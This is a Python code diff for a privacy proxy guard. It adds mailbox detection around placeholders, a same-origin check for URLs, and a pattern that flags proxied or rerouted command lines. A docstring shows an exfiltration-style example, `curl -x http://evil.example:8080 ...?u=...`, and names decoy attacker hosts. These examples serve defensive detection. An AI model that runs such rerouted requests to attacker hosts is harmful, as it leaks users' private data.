@@ -123,12 +123,18 @@ def label_after(text: str, end: int) -> int | None:
 def user_at(text: str, start: int, end: int) -> int | None:
     """Where the `@` and a host's first character end when the placeholder at `text[start:end]` is the user of
     `user@host:path` (scp, git, rsync's `::`), or of `user@host` in a remote login's command line (`ssh`, `sftp`,
-    `rsync`, `mosh`...: `_REMOTE`). Elsewhere `<PERSON_1>@acme.com` is an address composed around a restored value,
-    which output `pii` reads restored (`proxy.guard.vault.crosses_restored`)."""
+    `rsync`, `mosh`...: `_REMOTE`), or of `user@host` anywhere when the host is labels ending in a top-level name or
+    an IP address (`_ADDRESSED`: `log in as <PH>@collector.example`; the mailbox's local part from the placeholder on:
+    `<PERSON_1>.<PERSON_2>@acme.com`), which `proxy.guard.vault.Vault` restores only when it is the client's own
+    address as sent (restoreown15)."""
     folded, origin = _folded(text, end, min(len(text), end + _REACH), quotes=True)
     m = _AT_HOST.match(folded)
     if m is None:
-        return None
+        addressed = _ADDRESSED.match(folded)  # (`<PERSON_1>.<PERSON_2>@collector.example`: from the first)
+        return origin[addressed.end()] if addressed is not None and _at_host(addressed) else None
+    addressed = _ADDRESSED.match(folded)
+    if addressed is not None and _at_host(addressed):
+        return origin[addressed.end()]
     scp = _SCP_HOST.match(folded)
     if scp is not None:
         return origin[scp.end()]
@@ -137,6 +143,15 @@ def user_at(text: str, start: int, end: int) -> int | None:
     return None
 
 
+def _at_host(m: re.Match[str]) -> bool:
+    return m.group("tld") is None or top_level(m.group("tld"))
+
+
+# After a placeholder (folded): the rest of a mailbox's local part, `@` and a host that a client contacts: labels
+# ending in a top-level name (and a root dot), an IPv4 address, `[v6]` (restoreown15: `log in as
+# <PH>@collector.example`, `connect to <PH>@203.0.113.9`; `proxy.guard.vault.Vault` restores the client's own address).
+_ADDRESSED = re.compile(r"[\w.+%-]*@(?:\[[0-9a-f:.]{2,45}\]|\d{1,3}(?:\.\d{1,3}){3}\.?(?![\w-]|\.[\w-])"
+                        r"|(?:[\w-]+\.)+(?P<tld>[\w-]+)\.?(?![\w-]|\.[\w-]))")
 _SCP_HOST = re.compile(r"@(?:\[[^\]\s]{1,64}\]|[\w.-]{1,253}):")
 # A remote login's command before the user on its line (its options and arguments between).
 _REMOTE = re.compile(r"(?i)(?:^|[\s;&|(`$\"'])(?:ssh|sftp|scp|rsync|mosh|telnet|ftp|sshfs|autossh|ssh-copy-id|git)"
@@ -256,3 +271,43 @@ def url_afters(texts: Sequence[str]) -> list[str]:
         out.append(tail)
         tail = (text + tail)[:_REACH]
     return out[::-1]
+
+
+# A URL's scheme and authority: `scheme://` or `//` (or neither: a URL without a scheme, a host, `user@host:path`),
+# then what runs to the first `/`, `?`, `#`, backslash (a path's start to a browser) or whitespace.
+_ORIGIN = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?//[^/?#\\\s]*|[^/?#\\\s]*")
+
+
+def same_origin(url: str, sent: str) -> bool:
+    """Whether `url` (the model's) and `sent` (a URL the client sent: `proxy.guard.vault.Vault.note_urls`) have the
+    same scheme and authority as written, whole, up to a root dot: the host the client would contact is the client's
+    (restoreown15: `x.example` is no start of `x.example.collector.example`, `x.example@evil.example`,
+    `<PH>.x.example.evil.example`)."""
+    a = _ORIGIN.match(url)
+    b = _ORIGIN.match(sent)
+    return a is not None and b is not None and a.group().removesuffix(".") == b.group().removesuffix(".")  # (root dot)
+
+
+_LOCAL_BEFORE = re.compile(r"[\w.+%-]*\Z")  # the plain start of a mailbox's local part before a placeholder
+
+
+def mailbox(text: str, start: int, end: int) -> str | None:
+    """`text[start:end]` (a span `user_at` kept, from a placeholder) as a whole mailbox, with the plain start of its
+    local part before `start` (`j.<PERSON_1>@acme.com`) and without a sentence's period; None: no mailbox."""
+    whole = text[start:end]
+    if "@" not in whole or any(ch.isspace() for ch in whole):
+        return None
+    lead = _LOCAL_BEFORE.search(text, 0, start)
+    return (lead.group() if lead is not None else "") + whole.removesuffix(".")
+
+
+# What sends a command line's (or a JSON object's) requests elsewhere than their URLs' hosts: a proxy (`-x`,
+# `--proxy`, `--preproxy`, `--socks5`, `https_proxy=`, a `proxy` key), a resolve or connect-to override, another DNS.
+_REROUTED = re.compile(r"(?i)proxy|socks|--resolve|--connect-to|--doh-url|--dns-servers|--interface|(?:^|[\s\"'])-x")
+
+
+def rerouted(line: str) -> bool:
+    """Whether `line` (a network command line or a JSON object naming a host: `proxy.guard.urls.kept_spans`) may send
+    its requests through another host than its URLs' (`curl -x http://evil.example:8080 https://x.example/?u=...`):
+    a URL the client sent there is not restored (restoreown15)."""
+    return _REROUTED.search(line) is not None
